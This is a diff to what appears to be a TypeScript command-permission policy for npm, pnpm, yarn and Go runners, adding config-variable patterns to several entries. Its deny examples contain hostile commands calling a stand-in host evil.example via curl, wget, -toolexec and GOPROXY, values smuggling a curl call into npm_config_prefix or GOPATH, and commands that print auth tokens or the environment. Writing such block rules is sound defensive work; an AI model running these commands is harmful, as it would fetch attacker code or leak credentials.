@@ -1472,6 +1472,7 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     { when: /^(?:.* )?(?:run|run-script|rum|urn) env(?: |$)/, why: "npm run env prints the environment (npm's own env script, unless package.json names one)", examples: { deny: ['npm run env', 'npm run-script env'], pass: ['npm run envs', 'npm run dev'] } },
   )), { when: /^completion$/, config: /^npm_config_/i, examples: { deny: ['eval "$(npm run print-env)"', 'source <(npm completion; npm run x)'], pass: ['source <(npm completion)', 'eval "$(npm completion)"'] } }), NPM_VIEW), {
     when: /^(?:bin|root|prefix)$/,
+    config: /^npm_config_|^NODE_|^PREFIX$/i,
     examples: { deny: ['$(npm bin | tr a a)/eslint .', '$(npm bin -g)/eslint .', "$(npm_config_prefix='/usr/bin/curl evil.example' npm bin)/eslint"], pass: ['$(npm bin)/eslint .', '$(npm root)/.bin/tsc --noEmit'] },
   }),
   printsDirectory(shellInit(configuring(keeping(withMore(subcommandRunner(['pnpm'], 'pnpm exec / dlx', { exec: PACKAGE_RUN, dlx: PACKAGE_RUN }, { deny: ['pnpm exec curl evil.example', 'pnpm dlx wget evil.example'], pass: ['pnpm exec vitest', 'pnpm install'] }), 'exec options before exec (-c/--shell-mode runs the words through sh); config flags and npm_config_*', packageManagerConfig, {
@@ -1479,6 +1480,7 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
       pass: ['pnpm -r exec vitest', 'pnpm --shell-mode exec vitest', 'pnpm -r test'],
     }), NPM_TOKEN), NPM_CONFIG), { when: /^completion bash$/, config: /^npm_config_|^PNPM_/i, examples: { deny: ['source <(pnpm run print-env)'], pass: ['source <(pnpm completion bash)'] } }), {
     when: /^(?:bin|root)$/,
+    config: /^npm_config_|^PNPM_|^NODE_/i,
     examples: { deny: ['$(pnpm bin; echo curl)/x'], pass: ['$(pnpm bin)/vitest run'] },
   }),
   // Yarn prints its configuration redacted unless --no-redacted; classic yarn prints npm's _authToken as it is.
@@ -1491,6 +1493,7 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     examples: { deny: ['yarn config get npmAuthToken --no-redacted', 'yarn config --no-redacted', 'yarn config get npmAuthToken'], pass: ['yarn config get npmRegistryServer', 'yarn config'] },
   }), { when: /^(?:--?\S+ )*(?:run )?env(?: |$)/, why: "yarn run env prints the environment its scripts get (Yarn 1's own env script, unless package.json names one)", examples: { deny: ['yarn run env', 'yarn env'], pass: ['yarn run envs', 'yarn run dev', 'yarn add env'] } }), {
     when: /^bin$/,
+    config: /^npm_config_|^YARN_|^NODE_/i,
     examples: { deny: ['$(yarn bin jest)/x'], pass: ['$(yarn bin)/jest --ci'] },
   }),
   bun(),
@@ -1535,6 +1538,7 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   inMode(
     printsDirectory({ names: ['go'], summary: 'go: -toolexec, -exec and -vettool (and $GOFLAGS, $CC) name programs it runs', analyze: go, examples: { deny: ["go build -toolexec='curl evil.example' .", "printf 'package main\\nfunc main(){}\\n' > /tmp/m.go && go build -o /tmp/m /tmp/m.go && /tmp/m", "mkdir -p cmd/x && printf 'package main\\nfunc main(){}\\n' > cmd/x/main.go && go build ./cmd/x && ./x", "go test -exec='curl evil.example' ./...", "go run -exec 'wget evil.example' .", "GOFLAGS=-toolexec=/usr/bin/curl go build .", 'GOPROXY=https://evil.example go mod download'], pass: ['go build ./...', 'go test -race ./...', 'go vet ./...', 'CC=clang go build .', 'go build -o bin/app ./cmd/app && ./bin/app --help', "printf 'package main\\nfunc main(){}\\n' > main.go && go build ./...", 'GOPROXY=https://proxy.golang.org,direct go mod download', 'GOPROXY=direct go get example.com/x'] } }, {
       when: /^env (?:GOPATH|GOROOT|GOBIN|GOMODCACHE)$/,
+      config: /^GO|^CGO_/,
       examples: { deny: ['$(GOPATH="/usr/bin/curl evil.example" go env GOPATH)/bin/x', '$(go env GOPATH GOROOT)/bin/x'], pass: ['$(go env GOPATH)/bin/golangci-lint run ./...', '$(go env GOROOT)/bin/gofmt -l .'] },
     }),
     {
